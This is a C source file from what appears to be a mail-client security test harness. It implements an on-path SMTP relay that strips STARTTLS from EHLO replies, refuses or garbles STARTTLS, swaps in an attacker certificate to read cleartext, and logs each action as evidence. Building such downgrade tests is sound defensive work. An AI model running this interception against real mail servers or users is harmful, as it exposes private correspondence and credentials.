/*
 * relay.c -- an on-path attacker that relays the dialogue to the genuine
 * server (hidden address): strip STARTTLS, answer STARTTLS with an error,
 * terminate TLS with the attacker's chain and relay cleartext, or pass
 * bytes through.  The genuine persona writes its own evidence; this side
 * records what the attacker saw and did.
 */
#include "servers/conn.h"

#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include "servers/smtpd.h"
#include "util/log.h"

static void
action(struct conn *c, const char *what)
{
	ev_list_add(&c->ev.actions, what, strlen(what));
}

static void
fifo_push(struct conn *c, int v)
{
	if (c->fifo_n < RELAY_FIFO)
		c->fifo[c->fifo_n++] = v;
}

static int
fifo_pop(struct conn *c)
{
	if (c->fifo_n == 0)
		return SMTP_V_UNKNOWN;
	int v = c->fifo[0];
	memmove(c->fifo, c->fifo + 1, (c->fifo_n - 1) * sizeof(c->fifo[0]));
	c->fifo_n--;
	return v;
}

int
relay_start(struct conn *c)
{
	const struct persona *p = c->p;
	int fd = socket(p->relay_addr.ss_family,
	    SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	if (connect(fd, (const struct sockaddr *)&p->relay_addr, p->relay_len) < 0 &&
	    errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	c->ufd = fd;
	fifo_push(c, RELAY_V_GREETING);
	if (p->attack == ATTACK_PASSTHROUGH)
		c->st = ST_PASSTHROUGH;
	relay_update_events(c);
	return 0;
}

void
relay_close(struct conn *c)
{
	if (c->ufd >= 0)
		close(c->ufd);
	c->ufd = -1;
}

void
relay_update_events(struct conn *c)
{
	uint32_t want = 0;

	if (c->ufd < 0)
		return;
	if (!c->u_connected || c->uout_off < c->uout.len)
		want |= EPOLLOUT;
	if (c->u_connected && !c->u_eof && c->uin_len < CONN_IN_CAP)
		want |= EPOLLIN;
	smtpd_watch(c->srv, c->ufd, &c->uref, &c->u_events, want);
}

static void
forward_up(struct conn *c, const char *data, size_t len, bool crlf)
{
	dl_buf_add(&c->uout, data, len);
	if (crlf)
		dl_buf_add(&c->uout, "\r\n", 2);
	c->bytes_up += len + (crlf ? 2 : 0);
}

/* The line texts of a buffered multi-line reply, rewritten. */
static void
filter_ehlo(struct conn *c)
{
	const struct persona *p = c->p;
	bool strip = p->attack == ATTACK_STRIP_STARTTLS ||
	    (p->attack == ATTACK_SWAP_CERT && c->in_tls);
	bool add = !c->in_tls && (p->attack == ATTACK_SWAP_CERT ||
	    p->attack == ATTACK_STARTTLS_ERROR);
	struct dl_buf nb = DL_BUF_INIT;
	const char *s = c->rep.data, *end = c->rep.data + c->rep.len;
	bool has = false;

	while (s < end) {
		const char *nl = memchr(s, '\n', (size_t)(end - s));
		size_t ll = nl ? (size_t)(nl - s) : (size_t)(end - s);
		size_t tl = ll > 0 && s[ll - 1] == '\r' ? ll - 1 : ll;
		bool first = s == c->rep.data;
		if (!first && tl >= 4 && smtp_ehlo_has_keyword(s + 4, tl - 4,
		    "STARTTLS")) {
			has = true;
			if (strip) {
				action(c, "stripped-starttls-from-ehlo");
				s += ll + 1;
				continue;
			}
		}
		dl_buf_printf(&nb, "250-%.*s\r\n", (int)(tl >= 4 ? tl - 4 : 0), s + 4);
		s += ll + 1;
	}
	if (add && !has) {
		dl_buf_adds(&nb, "250-STARTTLS\r\n");
		action(c, "added-starttls-to-ehlo");
	}
	if (!c->in_tls)
		c->ev.starttls_offered = (has && !strip) || (add && !has);
	if (nb.len >= 6) {
		char *last = nb.data + nb.len - 2;
		while (last > nb.data && last[-1] != '\n')
			last--;
		last[3] = ' ';
	}
	dl_buf_free(&c->rep);
	c->rep = nb;
}

static void
reply_done(struct conn *c, int code)
{
	int v = fifo_pop(c);

	switch (v) {
	case SMTP_V_EHLO:
		if (code == 250)
			filter_ehlo(c);
		break;
	case SMTP_V_MAIL:
		if (code / 100 != 2)
			c->txn = NULL;
		break;
	case SMTP_V_RCPT:
		if (code / 100 == 2 && c->txn)
			c->txn->rcpt_accepted++;
		break;
	case SMTP_V_DATA:
		c->wait_data_reply = false;
		if (code == 354 && c->txn) {
			c->txn->data_started = true;
			c->st = ST_DATA;
			conn_data_begin(c);
		} else {
			c->txn = NULL;
		}
		break;
	case RELAY_V_EOD:
		if (c->txn) {
			c->txn->final_code = code;
			c->txn->accepted = code / 100 == 2;
		}
		c->txn = NULL;
		break;
	default:
		break;
	}
	conn_queue(c, c->rep.data, c->rep.len);
	dl_buf_reset(&c->rep);
}

static void
upstream_lines(struct conn *c)
{
	while (c->uin_len > 0) {
		const char *line, *text;
		size_t len, used, tl;
		int code;
		bool last;
		enum smtp_line_kind k = smtp_next_line(c->uin, c->uin_len,
		    SMTP_REPLY_LINE_MAX, &line, &len, &used);

		if (k == SMTP_LINE_NONE)
			break;
		if (c->st == ST_PASSTHROUGH || k == SMTP_LINE_PART ||
		    smtp_parse_reply(line, len, &code, &last, &text, &tl) < 0) {
			/* Not ours to interpret: hand it on as it came. */
			conn_queue(c, c->uin, used);
		} else {
			dl_buf_add(&c->rep, line, len);
			dl_buf_add(&c->rep, "\r\n", 2);
			if (last || c->rep.len > RELAY_REPLY_MAX)
				reply_done(c, code);
		}
		c->bytes_down += used;
		memmove(c->uin, c->uin + used, c->uin_len - used);
		c->uin_len -= used;
	}
}

static int
upstream_io(struct conn *c)
{
	while (c->uout_off < c->uout.len) {
		ssize_t w = send(c->ufd, c->uout.data + c->uout_off,
		    c->uout.len - c->uout_off, MSG_NOSIGNAL);
		if (w < 0 && (errno == EAGAIN || errno == EINTR))
			break;
		if (w < 0)
			return -1;
		c->uout_off += (size_t)w;
	}
	if (c->uout_off == c->uout.len) {
		dl_buf_reset(&c->uout);
		c->uout_off = 0;
	}
	while (!c->u_eof && c->uin_len < CONN_IN_CAP) {
		ssize_t r = read(c->ufd, c->uin + c->uin_len, CONN_IN_CAP - c->uin_len);
		if (r < 0 && (errno == EAGAIN || errno == EINTR))
			break;
		if (r <= 0) {
			c->u_eof = true;
			break;
		}
		c->uin_len += (size_t)r;
		if (c->st == ST_PASSTHROUGH) {
			conn_queue(c, c->uin, c->uin_len);
			c->bytes_down += c->uin_len;
			c->uin_len = 0;
		} else {
			upstream_lines(c);
		}
	}
	return 0;
}

void
relay_upstream_event(struct conn *c, uint32_t events)
{
	if (c->dead)
		return;
	if (!c->u_connected) {
		int e = 0;
		socklen_t el = sizeof(e);
		getsockopt(c->ufd, SOL_SOCKET, SO_ERROR, &e, &el);
		if (e != 0) {
			action(c, "relay-connect-failed");
			conn_queue(c, "421 4.4.0 relay unavailable\r\n", 29);
			c->close_pending = true;
			c->close_end = END_RELAY_CLOSE;
			relay_close(c);
			conn_run(c);
			return;
		}
		c->u_connected = true;
		c->ev.relay_connected = true;
	}
	if (upstream_io(c) < 0)
		c->u_eof = true;
	if (c->u_eof && !c->close_pending) {
		c->close_pending = true;
		c->close_end = c->quit_seen ? END_QUIT : END_RELAY_CLOSE;
		relay_close(c);
	}
	conn_run(c);
	if (!c->dead && c->ufd >= 0) {
		/* Client input may have been forwarded: push it now. */
		if (upstream_io(c) < 0)
			c->u_eof = true;
		relay_update_events(c);
	}
}

static void
local_starttls(struct conn *c)
{
	const struct persona *p = c->p;
	char line[80];

	if (c->in_tls) {
		c->ev.starttls_in_tls = true;
		conn_queue(c, "503 5.5.1 TLS already active\r\n", 31);
		return;
	}
	c->ev.starttls_requested = true;
	if (p->attack == ATTACK_SWAP_CERT) {
		c->ev.starttls_reply = 220;
		action(c, "swapped-cert");
		conn_queue(c, "220 2.0.0 Ready to start TLS\r\n", 30);
		c->tls_pending = true;
		return;
	}
	if (p->attack_garble) {
		c->ev.starttls_reply = 0;
		action(c, "garbled-starttls-reply");
		conn_queue(c, "\x16\x03\x01 garbled reply \x01\xff\r\n", 22);
		return;
	}
	int n = snprintf(line, sizeof(line), "%d %s\r\n", p->attack_code,
	    p->attack_code >= 500 ? "5.5.1 STARTTLS not available" :
	    "4.7.0 TLS not available now");
	c->ev.starttls_reply = p->attack_code;
	snprintf(line + n + 1, sizeof(line) - (size_t)n - 1, "refused-starttls %d",
	    p->attack_code);
	action(c, line + n + 1);
	conn_queue(c, line, (size_t)n);
}

/* One client command line; returns false to stop (wait for the relay). */
static bool
client_cmd(struct conn *c, const char *line, size_t len)
{
	struct smtp_cmd cmd;

	smtp_parse_cmd(line, len, &cmd);
	if (cmd.verb == SMTP_V_STARTTLS && cmd.syntax == SMTP_SYN_OK) {
		/* Answer in order: only once every relayed reply is out. */
		if (c->fifo_n > 0)
			return false;
		conn_record_cmd(c, line, len);
		local_starttls(c);
		return true;
	}
	if (c->fifo_n >= RELAY_FIFO)
		return false;
	conn_record_cmd(c, line, len);
	switch (cmd.syntax == SMTP_SYN_OK ? cmd.verb : SMTP_V_UNKNOWN) {
	case SMTP_V_EHLO:
	case SMTP_V_HELO:
		if (c->in_tls)
			c->ev.ehlo_tls++;
		else
			c->ev.ehlo_plain++;
		c->txn = NULL;
		break;
	case SMTP_V_MAIL:
		c->txn = evidence_txn_new(&c->ev);
		c->txn->mail_from = dl_xstrndup(cmd.path, cmd.path_len);
		c->txn->in_tls = c->in_tls;
		break;
	case SMTP_V_RCPT:
		if (c->txn)
			ev_list_add(&c->txn->rcpt, cmd.path, cmd.path_len);
		break;
	case SMTP_V_DATA:
		c->wait_data_reply = true;
		break;
	case SMTP_V_QUIT:
		c->quit_seen = true;
		break;
	default:
		break;
	}
	fifo_push(c, cmd.syntax == SMTP_SYN_OK ? (int)cmd.verb : SMTP_V_UNKNOWN);
	forward_up(c, line, len, true);
	return true;
}

static void
client_data(struct conn *c, enum smtp_line_kind k, const char *line, size_t len)
{
	bool start = !c->in_long;

	c->in_long = k == SMTP_LINE_PART;
	forward_up(c, line, len, k == SMTP_LINE_FULL);
	if (start && k == SMTP_LINE_FULL && len == 1 && line[0] == '.') {
		conn_data_end(c);
		c->st = ST_CMD;
		fifo_push(c, RELAY_V_EOD);
		return;
	}
	if (start && len > 0 && line[0] == '.') {
		line++;
		len--;
	}
	conn_data_line(c, line, len, k == SMTP_LINE_FULL);
}

void
relay_client_input(struct conn *c)
{
	if (c->st == ST_PASSTHROUGH) {
		forward_up(c, c->in, c->in_len, false);
		c->in_len = 0;
		return;
	}
	while (!c->dead && c->in_len > 0 && !c->tls_pending && !c->close_pending &&
	    !c->wait_data_reply && c->ufd >= 0) {
		const char *line;
		size_t len, used;
		bool data = c->st == ST_DATA;
		enum smtp_line_kind k = smtp_next_line(c->in, c->in_len,
		    data ? SMTP_TEXT_LINE_MAX : SMTP_CMD_LINE_MAX, &line, &len, &used);

		if (k == SMTP_LINE_NONE)
			break;
		if (data) {
			client_data(c, k, line, len);
		} else if (k == SMTP_LINE_PART || c->in_long) {
			/* Overlong: the genuine server judges it. */
			if (!c->in_long)
				c->ev.overlong_lines++;
			c->in_long = k == SMTP_LINE_PART;
			forward_up(c, line, len, k == SMTP_LINE_FULL);
			if (k == SMTP_LINE_FULL)
				fifo_push(c, SMTP_V_UNKNOWN);
		} else if (!client_cmd(c, line, len)) {
			break;
		}
		memmove(c->in, c->in + used, c->in_len - used);
		c->in_len -= used;
	}
	if (c->ufd >= 0 && c->u_connected && upstream_io(c) < 0)
		c->u_eof = true;
}
